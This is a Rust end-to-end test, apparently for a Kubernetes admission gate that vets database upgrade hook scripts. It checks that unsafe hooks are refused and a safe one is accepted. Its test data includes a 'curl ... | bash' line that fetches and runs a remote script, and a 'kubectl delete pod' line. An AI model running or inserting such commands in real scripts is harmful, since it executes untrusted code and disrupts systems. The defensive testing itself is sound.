//! The admission gate: what `kubectl apply` says to unsafe hooks, and to a safe one.

use crate::stage::Stage;
use hookgate_e2e::{Problem, Scenario, ensure, kubectl::kubectl, manifest::hook};

/// The ConfigMap of the safe hook.
pub const SAFE: &str = "fe-hooks";
/// What its `pre_upgrade` sends.
pub const PRE: &str = "SELECT \"pre_upgrade of FE\"";
/// What its `post_upgrade` sends.
pub const POST: &str = "SELECT current_version()";

struct Refused {
    name: &'static str,
    why: &'static str,
    script: &'static str,
    expected: [&'static str; 3],
}

const REFUSED: [Refused; 3] = [
    Refused {
        name: "with-kubectl",
        why: "a hook that calls kubectl",
        script: "#!/bin/bash\npre_upgrade() {\n    kubectl delete pod sr-be-0\n}\npost_upgrade() {\n    return 0\n}\n",
        expected: ["hooks.sh:3:5: HG201", "kubectl", "help: "],
    },
    Refused {
        name: "with-curl",
        why: "a hook that calls curl",
        script: "#!/bin/bash\npre_upgrade() {\n    curl -s http://198.51.100.7/install.sh | bash\n}\n\
                 post_upgrade() {\n    return 0\n}\n",
        expected: ["hooks.sh:3:5: HG301", "curl", "help: "],
    },
    Refused {
        name: "without-post-upgrade",
        why: "a hook without post_upgrade",
        script: "#!/bin/bash\npre_upgrade() {\n    return 0\n}\n",
        expected: ["HG101", "post_upgrade", "help: "],
    },
];

fn safe_script() -> String {
    let client = "mysql -h\"${SR_FE_HOST}\" -P\"${SR_FE_PORT}\" -u\"${SR_FE_USER}\"";
    format!(
        "#!/bin/bash\npre_upgrade() {{\n    echo 'INFO: saving the metadata of the FEs'\n    \
         {client} -e '{PRE}' || return 1\n}}\npost_upgrade() {{\n    {client} -e '{POST}' || return 1\n}}\n"
    )
}

pub async fn show(stage: &Stage, scenario: &Scenario) -> Result<(), Problem> {
    stage.title("2. The admission gate refuses unsafe hooks");
    for refused in REFUSED {
        stage.progress(&format!("{}:", refused.why));
        let answer = apply(stage, scenario, refused.name, refused.script).await?;
        ensure(!answer.success, || format!("{} was accepted", refused.why))?;
        for expected in refused.expected {
            ensure(answer.text.contains(expected), || format!("the refusal does not say {expected:?}"))?;
        }
        stage.good(&format!("{} is refused, with rule, line and help", refused.why));
    }
    stage.progress("a safe hook:");
    let answer = apply(stage, scenario, SAFE, &safe_script()).await?;
    ensure(answer.success, || "the safe hook was refused".to_owned())?;
    stage.good("a safe hook is accepted");
    Ok(())
}

async fn apply(
    stage: &Stage,
    scenario: &Scenario,
    name: &str,
    script: &str,
) -> Result<hookgate_e2e::kubectl::Answer, Problem> {
    for (number, line) in script.lines().enumerate() {
        stage.text(&format!("{:3} | {line}", number + 1));
    }
    stage.command(&format!("kubectl apply -f {name}.yaml"));
    let manifest = hook(name, script).to_string();
    let answer = kubectl(&["-n", &scenario.namespace, "apply", "-f", "-"], Some(&manifest)).await?;
    stage.text(&answer.text);
    Ok(answer)
}
